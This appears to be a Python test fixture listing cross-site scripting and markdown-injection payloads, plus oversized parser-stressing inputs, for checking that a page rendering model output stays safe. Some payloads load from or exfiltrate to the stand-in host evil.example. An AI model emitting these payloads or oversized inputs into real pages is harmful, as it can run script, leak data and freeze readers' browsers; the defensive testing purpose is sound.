"""What a model may say to harm who reads it on a page: to run, load or send something, or to take a browser's time.

HOSTILE  `window.ran` is 1 where something of it ran, and evil.example is asked where something was loaded
LARGE    by name: each took a browser, or marked, from seconds to minutes before there were bounds, or might have
"""

from collections.abc import Callable

HOSTILE = [
    "<script>window.ran = 1</script>",
    "<img src=x onerror='window.ran = 1'>",
    "<svg onload='window.ran = 1'><script>window.ran = 1</script></svg>",
    "<svg><a xlink:href='javascript:window.ran=1'><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1></style></mglyph></table></mtext></math>",
    "<iframe src='javascript:window.ran=1'></iframe><iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<object data='data:text/html,<script>parent.ran=1</script>'></object><embed src='//evil.example/x'>",
    "<form action='//evil.example'><button>Sign in</button><input name=key autofocus onfocus='window.ran=1'></form>",
    "<a href='javascript:window.ran=1' id=x>x</a><base href='//evil.example/'>",
    "<link rel=stylesheet href='//evil.example'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<style>@import '//evil.example/x.css'; body { display: none }</style><p style='position:fixed;inset:0'>x</p>",
    "<video src='//evil.example/v' autoplay poster='//evil.example/p'></video><audio src='//evil.example/a'></audio>",
    "<details open ontoggle='window.ran=1'><summary>x</summary>y</details>",
    "<template><img src=x onerror=window.ran=1></template><noscript><img src=//evil.example/n></noscript>",
    "<kbd><svg/onload=window.ran=1>//</kbd>", "<kbd><img/src=x/onerror=window.ran=1></kbd>",
    "<b onclick='window.ran=1' class=button style='color:red' id=prompt>x</b>",
    "[x](javascript:window.ran=1) [x](JaVaScRiPt:window.ran=1)",
    "[x](java\nscript:window.ran=1) [x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>window.ran=1</script>)",
    "[x](vbscript:x) [x](file:///etc/passwd) [x](blob:x) [x](//evil.example)",
    "<javascript:window.ran=1> <data:text/html,x>", "[x]: javascript:window.ran=1\n\n[x] ![x]",
    "![x](https://evil.example/pixel.png?secret) ![x][y]\n\n[y]: http://evil.example/y.png",
    "![x](//evil.example/x) ![x](/v1/models) ![x](data:image/svg+xml,<svg onload=window.ran=1>)",
    "![x](data:text/html;base64,PHNjcmlwdD4=) ![x\" onerror=\"window.ran=1](https://evil.example/a\"onerror=\"window.ran=1)",
    "```\"><img src=x onerror=window.ran=1>\n<script>window.ran=1</script>\n```",
    "`<img src=x onerror=window.ran=1>` $$<img src=x onerror=window.ran=1>$$ \\(<script>window.ran=1</script>\\)",
    "| <script>window.ran=1</script> | <img src=x onerror=window.ran=1> |\n|-|-|\n| <svg onload=window.ran=1> | x |",
    "# <img src=x onerror=window.ran=1>\n\n> <script>window.ran=1</script>\n\n- <svg/onload=window.ran=1>",
    "<a name=body>x</a><img name=getElementById><form id=querySelector><input name=attributes></form>",
    "<!-- --!><img src=x onerror=window.ran=1> -->",
    "<![CDATA[<img src=x onerror=window.ran=1>]]> <?x <img src=x onerror=1>?>",
    "<x-y onclick=window.ran=1>x</x-y> <p/onmouseover=window.ran=1>x</p> <br/onload=window.ran=1>",
    "&lt;script&gt;window.ran=1&lt;/script&gt; &#60;img src=x onerror=window.ran=1&#62;",
    "\u202e<script>\u2066 \u0000<img src=x onerror=window.ran=1>\ufeff",
]  # fmt: skip


def nested(n: int, line: Callable[[int], str]) -> str:
    return "\n".join(map(line, range(n)))


LARGE: dict[str, str] = {
    "a line of 1 MB": "x" * 1_000_000,
    "words of 1 MB": "word " * 200_000,
    "quotes": ">" * 50_000 + " x",
    "lists in lists": nested(600, lambda i: "  " * i + "- a"),
    "list marks": "- " * 50_000 + "a",
    "numbers": "1. " * 40_000 + "a",
    "lists in quotes": "> - " * 30_000 + "a",
    "emphasis": "_a_" * 60_000,
    "nested emphasis": "*a **b " * 9_000 + "b** a* " * 9_000,
    "stars": "a*" * 100_000,
    "brackets": "[" * 150_000 + "](" * 20_000,
    "links in links": "[a](" * 40_000,
    "pictures": "![" * 60_000 + "](x)" * 1_000,
    "mail": "a" * 150_000 + "@",
    "backticks": "".join("`" * (i % 300) + "a" for i in range(1200)),
    "tags": "<a " * 60_000,
    "comments": "<!--" * 50_000,
    "a block of tags": "<div\n" + "<a " * 60_000,
    "details": "<details><summary>x</summary>" * 5_000,
    "bold": "<b>" * 40_000,
    "a wide table": "|" + "a|" * 5_000 + "\n|" + "-|" * 5_000 + "\n" + ("|" + "b|" * 5_000 + "\n") * 8,
    "a long table": "| a | b |\n|-|-|\n" + "| 1 | 2 |\n" * 18_000,
    "many tables": ("| a | b |\n|-|-|\n" + "| 1 | 2 |\n" * 40 + "\n") * 400,
    "code": "```python\n" + "x = f('a') + 1  # b\n" * 9_000,
    "a line of code": "```js\n" + "f('" * 60_000 + "\n```",
    "quotes in code": "```python\n" + "\"'" * 29_000 + "\n```",
    "names in code": "```yaml\n" + "a-" * 29_000 + "\n```",
    "tags in code": "```html\n" + "<!--" * 7_000 + '="' * 14_000 + "\n```",
    "fences": "```\na\n" * 30_000,
    "items": "- a\n" * 45_000,
    "formulas": "$$a" * 50_000,
    "open formulas": "\\(" * 80_000,
    "open formula blocks": "\\[\n" * 50_000,
    "turned around": "\u202e" * 30_000 + "a\u2066b" * 10_000,
    "accents": "Z" + "\u0301" * 100_000,
    "piles of accents": ("Z" + "\u0301" * 24) * 6_000,
    "joined": "\U0001f469\u200d" * 30_000,
    "unbroken": "\u00a0" * 60_000 + "\u2060x" * 30_000,
    "from the right": "\u05d0 " * 40_000 + "a\u05d0" * 40_000,
    "definitions": nested(10_000, lambda i: f"[a{i}]: http://b") + "\n\n" + "[a1] " * 2_000,
    "entities": "&amp;" * 30_000 + "&" * 30_000,
}
